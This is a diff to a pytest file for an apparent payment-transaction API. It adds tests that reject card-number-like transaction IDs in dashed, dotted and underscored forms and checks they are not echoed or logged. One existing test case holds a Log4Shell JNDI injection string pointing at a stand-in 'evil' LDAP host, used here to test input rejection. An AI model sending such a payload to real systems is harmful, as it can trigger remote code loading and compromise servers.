@@ -103,6 +103,13 @@ BAD_REQUESTS: list[tuple[str, Any, bool, int, str]] = [
     ("card-as-string", transaction(card=VISA), False, 400, "card has the wrong type"),
     ("transaction-id-is-a-pan", transaction(transaction_id=AMEX), False, 400, "looks like a card number"),
     (
+        "transaction-id-is-a-dashed-pan",
+        transaction(transaction_id="4111-1111-1111-1111"),
+        False,
+        400,
+        "looks like a card number",
+    ),
+    (
         "customer-log4shell",
         transaction(customer_id="${jndi:ldap://evil/x}"),
         False,
@@ -341,7 +348,18 @@ def test_get_unknown_transaction_is_404(pipeline):
     assert response["json"]["code"] == "NOT_FOUND"
 
 
-@pytest.mark.parametrize("transaction_id", [VISA, "bad id!", "-leading-dash", "x" * 65])
+@pytest.mark.parametrize(
+    "transaction_id",
+    [
+        VISA,
+        "4111-1111-1111-1111",
+        "4111.1111.1111.1111",
+        "4111_1111_1111_1111",
+        "bad id!",
+        "-leading-dash",
+        "x" * 65,
+    ],
+)
 def test_get_with_an_id_post_would_refuse_is_400_without_echoing_or_logging_it(
     pipeline, logs, transaction_id
 ):
